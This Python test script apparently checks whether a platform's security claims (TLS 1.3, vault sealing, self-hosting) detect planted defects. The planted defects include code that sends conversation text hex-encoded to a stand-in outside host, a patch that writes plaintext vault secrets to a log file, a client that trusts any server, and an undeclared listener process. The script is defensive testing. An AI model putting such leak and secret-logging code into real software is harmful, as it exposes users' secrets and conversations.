"""``python -I tests/support/claims.py``: claims on a throw-away platform in its own network, whole and with defects.

A process of its own, because it moves into a network of its own. On stdout one JSON object: name of the run → report.
"""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, replace
from unittest.mock import patch

from clawmates.base.paths import State
from clawmates.base.secret import Secret
from clawmates.base.shape import encode
from clawmates.proofs.claims import victim as victims
from clawmates.proofs.live import LivePlatform
from clawmates.proofs.net.packets import End
from clawmates.proofs.result import Report
from clawmates.proofs.run import run
from clawmates.proofs.searched import Host
from clawmates.proofs.trial import Options
from clawmates.proofs.world import Guise, Hop, Reaction
from clawmates.trials.cable import Cable, plug
from clawmates.trials.outside import ELSEWHERE
from clawmates.trials.running import run as run_trial
from clawmates.trials.throwaway import Bot, Throwaway, throwaway
from clawmates.trials.world import StandInWorld, world_of
from clawmates.wire.names import ChannelKind
from clawmates.wire.sealing import seal
from clawmates.wire.vault import Binding, SealedItem

SHORT = Options(messages=4)
NEAR = replace(SHORT, host=replace(Host.here(), rest=()))
"""Where somebody keeps something it is not looked for on the whole of this host."""
LISTENER = "import socket; s = socket.create_server(('127.0.0.1', 0)); print(flush=True); input()"


@dataclass(slots=True)
class RashHop:
    """A client that trusts one bad server."""

    hop: Hop

    @property
    def name(self) -> str:
        return self.hop.name

    @property
    def guises(self) -> tuple[Guise, ...]:
        return self.hop.guises

    async def careless(self) -> Mapping[Guise, Reaction]:
        return await self.hop.careless()

    async def call(self) -> Mapping[Guise, Reaction]:
        # What a client does that checks nothing is what this one does.
        return dict.fromkeys((*self.guises, Guise.GOOD), Reaction(shook=True, spoke=True))


@dataclass(slots=True)
class RashWorld:
    """Somebody on the platform tells what was said to a stranger, in the clear; and one of its clients is rash."""

    world: StandInWorld
    stranger: End

    @property
    def rounds(self) -> tuple[tuple[Hop, ...], ...]:
        return ((RashHop(self.world.rounds[0][0]),),)

    @property
    def places(self) -> Mapping[End, str]:
        return self.world.places

    @property
    def nowhere(self) -> End:
        return self.world.nowhere

    @property
    def asked(self) -> Mapping[str, int]:
        return self.world.asked

    async def prepare(self) -> None: ...
    async def refresh(self) -> None: ...
    async def retreat(self) -> None: ...
    async def settle(self) -> None: ...

    async def converse(self, text: Callable[[int], str]) -> Mapping[str, int]:
        await self._leak(text(0))
        return {}

    async def converse_alone(self, text: Callable[[int], str]) -> Mapping[str, int]:
        return await self.converse(text)

    async def _leak(self, said: str) -> None:
        _, writer = await asyncio.open_connection(str(self.stranger.address), self.stranger.port)
        writer.write(said.encode().hex().encode())
        await writer.drain()
        writer.close()


@dataclass(slots=True)
class Talkative(LivePlatform):
    """A platform with one process more than it says."""

    extra: int = 0

    async def processes(self) -> Mapping[str, int]:
        return {**await LivePlatform.processes(self), "gateway helper": self.extra}


async def with_defects(trial: Throwaway, world: StandInWorld, cable: Cable) -> dict[str, Report]:
    """A process more than declared, a stranger who is told everything, a rash client, and a credential on disk."""
    stranger = End(ELSEWHERE, 80)
    cable.add(str(ELSEWHERE))
    with cable.listen(str(stranger.address), stranger.port):
        extra = await asyncio.create_subprocess_exec(
            *(sys.executable, "-I", "-c", LISTENER), stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE
        )
        try:
            assert extra.stdout is not None
            await extra.stdout.readline()
            bad = Talkative(trial.state, trial.live.settings, extra=extra.pid, world=RashWorld(world, stranger))
            reports = {claim: await run(bad, [claim], SHORT) for claim in ("tls13", "self-host")}
            with leaky_sealing(trial.state):
                reports["vault"] = await run(bad, ["vault"], NEAR)
            await bad.close()
        finally:
            extra.kill()
            await extra.wait()
    return {f"{claim} with defects": report for claim, report in reports.items()}


@contextmanager
def leaky_sealing(state: State) -> Iterator[None]:
    """Somebody keeps what is sealed, in hexadecimal, where logs lie."""

    def keep(public: str, binding: Binding, plaintext: Secret[str]) -> SealedItem:
        with (state.log / "kept").open("ab") as stream:
            stream.write(plaintext.reveal().encode().hex().encode() + b"\n")
        return seal(public, binding, plaintext)

    with patch.object(victims, "seal", keep):
        yield


async def main(cable: Cable) -> int:
    async with throwaway(disk=True, cable=cable) as trial, world_of(trial) as world:
        await trial.add([Bot.invent("canary", ChannelKind.TERMINAL)])
        await trial.until_live("canary")
        reports = {claim: await run(trial.live, [claim], SHORT) for claim in ("tls13", "vault", "self-host")}
        reports |= await with_defects(trial, world, cable)
    sys.stdout.write(json.dumps(encode(reports)))
    return 0


if __name__ == "__main__":
    there = plug()
    sys.exit(run_trial(main(there)))
